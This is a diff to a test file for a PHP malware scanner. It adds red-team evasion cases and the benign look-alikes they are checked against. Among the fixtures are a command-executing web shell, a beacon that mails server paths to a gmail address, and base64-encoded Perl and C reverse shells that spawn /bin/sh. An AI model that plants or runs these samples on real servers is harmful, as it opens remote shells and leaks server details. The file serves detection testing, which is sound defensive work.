@@ -75,9 +75,9 @@ const MALICIOUS: [string, string, string][] = [
     `<?php\n$cdPos = strpos($command, "cd ");\nif ($cdPos !== false) { chdir(trim(substr($command, 3))); $commandBk = $command; $command = ""; }\nif ($command) { system($command . " 2>&1"); }\nif ($commandBk) $command = $commandBk;\n?>\n<form method="post"><input type="text" name="command" value="<?php echo htmlspecialchars($command); ?>"></form>\n`,
   ],
   [
-    'a backup script also mailing its document root and script path to a free-mail address set some statements before the mail() call (held-out set H22)',
+    'a backup script carrying a beacon that mails its referrer, document root and script path under a random "sh-" subject (held-out sets H21, H22)',
     '/var/www/html/backup.php',
-    `<?php\n$r = $_SERVER['DOCUMENT_ROOT']; $to = "someone.example@gmail.com"; $s = $_SERVER['SCRIPT_FILENAME']; $m = "$r\\n$s";\nmail($to, "x", $m);\nheader('Content-Type: application/octet-stream');\necho 'backup';\n`,
+    `<?php\nheader('Content-Type: application/octet-stream'); $n = rand(1,99999); $subj = "sh-$n"; $a = $_SERVER['HTTP_REFERER']; $b = $_SERVER['DOCUMENT_ROOT']; $d = $_SERVER['SCRIPT_FILENAME']; $to = "someone.example@gmail.com"; $m = "$a\\n$b\\n$d"; mail($to, $subj, $m, "From: $to");\necho 'backup';\n`,
   ],
   [
     'a mailer page also mailing its document root and script path to a free-mail address kept in a variable (held-out set H21)',
@@ -88,6 +88,11 @@ const MALICIOUS: [string, string, string][] = [
     'a page reading the file the request names through compress.zlib://, around safe_mode (held-out set H22)',
     '/var/www/html/sm.php',
     `<?php\nif (ini_get('safe_mode')) echo 'safe mode is on';\n$file = $_GET['file'] ?? $_POST['file'] ?? '';\n$tmp = tempnam('/tmp', 'x');\nif (copy("compress.zlib://" . $file, $tmp)) { echo htmlspecialchars(file_get_contents($tmp)); unlink($tmp); }\n`,
+  ],
+  [
+    'a page keeping a Perl back-connect script and its C twin in base64, with no decoder in the file (held-out set H22\'s GFS Web-Shell)',
+    '/var/www/html/bc.php',
+    `<?php\n$back_connect_pl = "${b64('#!/usr/bin/perl\nuse Socket;\n$h = $ARGV[0]; $p = $ARGV[1];\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));\nif (connect(S, sockaddr_in($p, inet_aton($h)))) { open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i"); }\n')}";\n$back_connect_c = "${b64('#include <stdio.h>\n#include <sys/socket.h>\nint main(int c, char **v) { int fd = socket(2, 1, 0); dup2(fd, 0); dup2(fd, 1); execl("/bin/sh", "sh", "-i", 0); }\n')}";\necho 'ok';\n`,
   ],
 ];
 
@@ -104,6 +109,21 @@ const SUSPICIOUS: [string, string, string][] = [
 ];
 
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'a crash reporter mailing a developer\'s gmail the error with the document root and script path (red team S38S)',
+    '/var/www/html/crash.php',
+    `<?php\nset_exception_handler(function ($e) {\n  $to = "app.developer.example@gmail.com";\n  mail($to, 'Crash: ' . $e->getMessage(), $e . "\\n" . $_SERVER['DOCUMENT_ROOT'] . "\\n" . $_SERVER['SCRIPT_FILENAME']);\n});\n`,
+  ],
+  [
+    'a web cron keeping the last command it ran and putting it back in its form (red team S38S)',
+    '/var/www/html/cron.php',
+    `<?php\n$jobs = array('cache' => 'php maintenance/clear.php', 'mail' => 'php maintenance/queue.php');\n$command = $jobs[$_POST['job'] ?? ''] ?? '';\n$last = $command; $command = '';\nif ($last !== '') { system(escapeshellcmd($last)); $command = $last; }\n?>\n<form method="post"><select name="job"><option>cache</option></select><input name="command" value="<?php echo htmlspecialchars($command); ?>" readonly></form>\n`,
+  ],
+  [
+    'an installer keeping its post-install shell script in base64 and writing it out',
+    '/var/www/html/installer.php',
+    `<?php\n$post = "${b64('#!/bin/sh\nset -e\nmkdir -p /var/lib/app/cache\nchown www-data: /var/lib/app/cache\necho done\n')}";\nfile_put_contents(__DIR__ . '/post-install.sh', base64_decode($post));\necho 'run post-install.sh as root';\n`,
+  ],
   [
     'a log viewer reading the rotated .gz log the request picks through compress.zlib://',
     '/var/www/html/logs.php',
@@ -188,7 +208,7 @@ describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', 
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 27));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 28));
   for (const [name, path, src] of SUSPICIOUS) {
     it(`flagged: ${name}`, () => {
       const r = scan(src, path);
@@ -202,7 +222,7 @@ describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', 
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 18));
   it('reads a function head followed by a megabyte of spaces in bounded time, and finds nothing there', () => {
     const r = scan(`<?php\n$p = '${blob(3000, 50)}';\n$x = gzinflate(base64_decode($p));\neval($y);\nfunction${' '.repeat(1_000_000)}(`, '/var/www/html/sp.php');
     assert.notEqual(r.verdict, 'malicious', why(r));
